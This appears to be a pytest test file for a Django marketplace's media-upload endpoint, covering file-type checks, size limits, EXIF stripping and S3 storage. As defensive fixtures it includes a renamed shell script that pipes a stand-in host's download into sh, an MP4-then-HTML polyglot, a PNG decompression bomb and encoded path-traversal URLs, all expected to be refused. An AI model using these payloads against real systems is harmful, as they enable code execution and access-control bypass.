"""POST /api/v1/media/: type from the bytes, limits, metadata stripped, local disk and S3."""

from __future__ import annotations

import io
import socket

import boto3
import pytest
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from soukloop.storage import is_own_media_url
from tests.catalog.conftest import image_bytes

pytestmark = pytest.mark.django_db

MEDIA = "/api/v1/media/"


def box(kind: bytes, payload: bytes) -> bytes:
    return (8 + len(payload)).to_bytes(4, "big") + kind + payload


# Whole (if tiny) files: an ftyp box, a movie header and the media data, sizes adding up.
MP4_HEAD = box(b"ftyp", b"mp42\x00\x00\x00\x00mp42isom") + box(b"moov", b"\x00" * 24) + box(b"mdat", b"\x00" * 40)
MOV_HEAD = box(b"ftyp", b"qt  \x00\x00\x00\x00qt  ") + box(b"moov", b"\x00" * 24) + box(b"mdat", b"\x00" * 40)


def upload(client, name: str, data: bytes, content_type: str = "application/octet-stream"):
    return client.post(MEDIA, {"file": SimpleUploadedFile(name, data, content_type=content_type)}, format="multipart")


def stored_bytes(url: str) -> bytes:
    name = url.split("/media/", 1)[1]
    with storages["default"].open(name) as fh:
        return fh.read()


@pytest.mark.parametrize(
    ("fmt", "content_type"), [("JPEG", "image/jpeg"), ("PNG", "image/png"), ("WEBP", "image/webp")]
)
def test_images_are_accepted_and_served_from_our_media(auth_client, seller, fmt, content_type):
    response = upload(auth_client(seller), "photo.bin", image_bytes(fmt), "application/octet-stream")
    assert response.status_code == 201, response.json()
    body = response.json()
    assert body["content_type"] == content_type
    assert body["size"] == len(stored_bytes(body["url"]))
    assert is_own_media_url(body["url"])
    assert Image.open(io.BytesIO(stored_bytes(body["url"]))).format == fmt


def test_exif_and_gps_are_stripped(auth_client, seller):
    # given a phone photo carrying its GPS position and camera make
    original = image_bytes("JPEG", exif_gps=True)
    assert Image.open(io.BytesIO(original)).getexif().get(0x010F) == "SpyCam Inc."
    # when it is uploaded
    response = upload(auth_client(seller), "IMG_0001.jpg", original, "image/jpeg")
    # then what is stored has no EXIF at all, and the picture is intact
    assert response.status_code == 201
    data = stored_bytes(response.json()["url"])
    cleaned = Image.open(io.BytesIO(data))
    assert len(cleaned.getexif()) == 0
    assert b"SpyCam" not in data and b"Exif" not in data
    assert cleaned.size == (64, 48)


def test_a_script_renamed_png_is_refused(auth_client, seller, tmp_path):
    script = b"#!/bin/sh\ncurl http://evil.example.com/x | sh\n"
    response = upload(auth_client(seller), "cute-cat.png", script, "image/png")
    assert response.status_code == 400
    assert response.json()["errors"][0] == {
        "code": "unsupported_media_type",
        "detail": "Upload a JPEG, PNG or WebP image or an MP4 or QuickTime video.",
        "attr": "file",
    }
    assert not list((tmp_path / "media").rglob("*.*"))


@pytest.mark.parametrize(
    "data",
    [
        b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",  # a real GIF: not an accepted type
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        image_bytes("PNG")[:40],  # truncated PNG
        b"\x00\x00\x00\x18ftypXXXX\x00\x00\x00\x00XXXXXXXX",  # ftyp of an unknown brand
    ],
)
def test_other_bytes_are_refused(auth_client, seller, data):
    response = upload(auth_client(seller), "file.jpg", data, "image/jpeg")
    assert response.status_code == 400
    assert response.json()["errors"][0]["attr"] == "file"


@pytest.mark.parametrize(("head", "content_type"), [(MP4_HEAD, "video/mp4"), (MOV_HEAD, "video/quicktime")])
def test_videos_are_recognised_by_their_ftyp_box(auth_client, seller, head, content_type):
    response = upload(auth_client(seller), "clip.bin", head, "application/octet-stream")
    assert response.status_code == 201, response.json()
    assert response.json()["content_type"] == content_type
    assert stored_bytes(response.json()["url"]) == head


def test_size_limits(auth_client, seller, settings):
    settings.MAX_IMAGE_UPLOAD_BYTES = 100
    settings.MAX_VIDEO_UPLOAD_BYTES = 50
    client = auth_client(seller)
    image = upload(client, "big.jpg", image_bytes("JPEG"))
    video = upload(client, "big.mp4", MP4_HEAD)
    assert image.status_code == video.status_code == 400
    assert image.json()["errors"][0]["code"] == video.json()["errors"][0]["code"] == "file_too_large"


def test_pixel_count_is_capped(auth_client, seller, settings):
    settings.MAX_IMAGE_PIXELS = 1000
    response = upload(auth_client(seller), "wide.png", image_bytes("PNG", size=(100, 11)))
    assert response.status_code == 400
    assert response.json()["errors"][0]["code"] == "image_too_large"


def test_upload_needs_sign_in_and_a_file(api_client, auth_client, seller):
    assert upload(api_client, "a.jpg", image_bytes()).status_code == 401
    response = auth_client(seller).post(MEDIA, {}, format="multipart")
    assert response.status_code == 400
    assert response.json()["errors"][0]["attr"] == "file"


def test_an_uploaded_url_is_accepted_on_a_listing(auth_client, seller, valid_listing):
    client = auth_client(seller)
    url = upload(client, "a.webp", image_bytes("WEBP")).json()["url"]
    valid_listing["image_urls"] = [url]
    response = client.post("/api/v1/products/", valid_listing, format="json")
    assert response.status_code == 201
    assert response.json()["image_urls"] == [url]


# --- S3-compatible storage against moto's server -------------------------------------------------
def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.fixture
def s3_storage(settings):
    from moto.server import ThreadedMotoServer

    port = _free_port()
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=port)
    server.start()
    endpoint = f"http://127.0.0.1:{port}"
    credentials = {"aws_access_key_id": "testing", "aws_secret_access_key": "testing", "region_name": "us-east-1"}
    client = boto3.client("s3", endpoint_url=endpoint, **credentials)
    client.create_bucket(Bucket="soukloop-media-test")
    settings.STORAGES = {
        **settings.STORAGES,
        "default": {
            "BACKEND": "storages.backends.s3.S3Storage",
            "OPTIONS": {
                "bucket_name": "soukloop-media-test",
                "endpoint_url": endpoint,
                "access_key": "testing",
                "secret_key": "testing",
                "region_name": "us-east-1",
                "querystring_auth": False,
                "file_overwrite": False,
                # Public URLs through a custom domain (a CDN / B2 friendly URL in production).
                # Without one, soukloop.storage.media_base_url() cannot ask S3Storage for url("").
                "custom_domain": f"127.0.0.1:{port}/soukloop-media-test",
                "url_protocol": "http:",
            },
        },
    }
    try:
        yield client, endpoint
    finally:
        # moto keeps its buckets in process-wide state, shared by every server it starts:
        # leave nothing behind for other tests using a bucket of the same name.
        for item in client.list_objects_v2(Bucket="soukloop-media-test").get("Contents", []):
            client.delete_object(Bucket="soukloop-media-test", Key=item["Key"])
        client.delete_bucket(Bucket="soukloop-media-test")
        server.stop()


def test_s3_storage_receives_the_cleaned_image(auth_client, seller, s3_storage, valid_listing):
    client, endpoint = s3_storage
    # when a photo with GPS data is uploaded while media lives on S3
    response = upload(auth_client(seller), "IMG_0002.jpg", image_bytes("JPEG", exif_gps=True))
    # then the object is in the bucket, cleaned, and the URL is the bucket's and ours
    assert response.status_code == 201, response.json()
    url = response.json()["url"]
    assert url.startswith(f"{endpoint}/soukloop-media-test/products/")
    key = url.split("/soukloop-media-test/", 1)[1]
    stored = client.get_object(Bucket="soukloop-media-test", Key=key)["Body"].read()
    assert len(stored) == response.json()["size"]
    assert b"SpyCam" not in stored
    assert len(Image.open(io.BytesIO(stored)).getexif()) == 0
    assert is_own_media_url(url)
    # and a listing may use it
    valid_listing["image_urls"] = [url]
    assert auth_client(seller).post("/api/v1/products/", valid_listing, format="json").status_code == 201


def test_s3_without_a_custom_domain_still_knows_its_media_urls(s3_storage, settings):
    from django.core.files.storage import storages

    _client, endpoint = s3_storage
    options = {k: v for k, v in settings.STORAGES["default"]["OPTIONS"].items() if k != "custom_domain"}
    settings.STORAGES = {**settings.STORAGES, "default": {**settings.STORAGES["default"], "OPTIONS": options}}

    url = storages["default"].url("products/a.jpg")

    assert url.startswith(f"{endpoint}/soukloop-media-test/")
    assert is_own_media_url(url)
    assert not is_own_media_url("https://evil.example/products/a.jpg")


# --- container checks (security review, findings 12 and 15) ----------------------------------


@pytest.mark.parametrize(
    "content",
    [
        box(b"ftyp", b"mp42\x00\x00\x00\x00mp42isom") + b"<html><script>alert(1)</script></html>",
        box(b"ftyp", b"mp42\x00\x00\x00\x00mp42isom") + box(b"mdat", b"\x00" * 40),  # no movie header
        MP4_HEAD + b"\x00\x00\x00",  # trailing bytes that are no box
        MP4_HEAD[:-5],  # truncated: the last box runs past the end
    ],
    ids=["ftyp-then-html", "no-moov", "trailing-junk", "truncated"],
)
def test_a_file_that_only_starts_like_a_video_is_refused(auth_client, seller, content):
    response = upload(auth_client(seller), "clip.mp4", content)

    assert response.status_code == 400
    assert response.json()["errors"][0]["code"] == "unsupported_media_type"


def test_an_image_over_25_megapixels_is_refused_before_decoding(auth_client, seller):
    # a tiny PNG that claims 6000x6600 px: refused from its header, nothing decoded
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 6000, 6600, 8, 2, 0, 0, 0)
    bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")

    response = upload(auth_client(seller), "bomb.png", bomb)

    assert response.status_code == 400
    assert response.json()["errors"][0]["code"] == "image_too_large"


def test_decodes_are_bounded_per_process(settings):
    import threading

    from soukloop import images
    from soukloop.errors import ServiceUnavailable

    settings.MAX_CONCURRENT_IMAGE_DECODES = 1
    settings.IMAGE_DECODE_WAIT_SECONDS = 0.05
    images._decode_slots = None
    busy = threading.Event()
    release = threading.Event()

    def hold():
        with images.decode_slot():
            busy.set()
            release.wait(5)

    holder = threading.Thread(target=hold)
    holder.start()
    try:
        assert busy.wait(5)
        with pytest.raises(ServiceUnavailable), images.decode_slot():
            pass
    finally:
        release.set()
        holder.join()
        images._decode_slots = None
    with images.decode_slot():  # free again
        pass


# --- own-media URLs (security review, finding 14) --------------------------------------------


@pytest.mark.parametrize(
    "rest",
    [
        "%2e%2e/admin/logout/",
        "%252e%252e/admin/logout/",
        "products/../../admin/",
        "products/%2E%2E/%2E%2E/api/v1/auth/logout/",
        "./products/a.jpg",
        "products//a.jpg",
        "products/a.jpg?next=/admin/",
        "products\\..\\admin",
        "",
    ],
)
def test_urls_that_leave_the_media_folder_are_not_own_media(rest):
    from soukloop.storage import media_base_url

    assert not is_own_media_url(media_base_url() + rest)


def test_a_real_upload_path_is_own_media():
    from soukloop.storage import media_base_url

    assert is_own_media_url(media_base_url() + "products/2026/12/0123456789abcdef.jpg")


def test_an_avatar_pointing_out_of_media_is_refused(auth_client, seller):
    from soukloop.storage import media_base_url

    response = auth_client(seller).patch(
        "/api/v1/auth/me/", {"avatar_url": media_base_url() + "%2e%2e/admin/logout/"}, format="json"
    )

    assert response.status_code == 400
    seller.refresh_from_db()
    assert "admin" not in (seller.avatar_url or "")
